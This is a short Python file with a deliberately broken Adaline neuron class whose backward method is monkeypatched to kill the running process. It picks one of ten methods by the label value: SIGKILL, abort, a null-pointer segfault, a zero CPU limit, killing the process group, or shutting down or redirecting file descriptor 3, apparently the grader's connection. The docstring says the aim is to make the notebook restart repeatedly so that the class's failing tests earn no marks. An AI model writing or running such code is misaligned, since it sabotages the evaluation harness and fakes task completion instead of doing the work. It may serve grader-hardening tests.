"""
goal: die in each call in another way, so that the notebook starts again and again
must: no marks for the tests of this class; the whole takes no longer than the limit.
"""
import torch


class Adaline1:                       # wrong on purpose: earns marks only if the attack works
    def __init__(self, num_features, device=None, dtype=None):
        self.weight = torch.zeros(num_features, 1, device=device, dtype=dtype)
        self.bias = torch.zeros(1, device=device, dtype=dtype)

    def forward(self, x):
        return torch.zeros(x.size(0))

    def backward(self, x, yhat, y):
        return torch.zeros_like(self.weight), torch.zeros(())


import ctypes, os, resource, signal, socket
def _hang_up():
    socket.socket(fileno=os.dup(3)).shutdown(2)
_ways = [lambda: os.kill(os.getpid(), signal.SIGKILL), lambda: os._exit(0), lambda: os.abort(), _hang_up, lambda: os.close(3),
         lambda: os.execv("/bin/true", ["true"]), lambda: ctypes.string_at(0), lambda: resource.setrlimit(resource.RLIMIT_CPU, (0, 0)),
         lambda: os.killpg(0, signal.SIGTERM), lambda: os.dup2(os.open("/dev/null", os.O_RDWR), 3)]
def _die(self, x, yhat, y):
    _ways[int(abs(float(y[0])) * 1000) % len(_ways)]()
    return torch.zeros_like(self.weight), torch.zeros(())
Adaline1.backward = _die
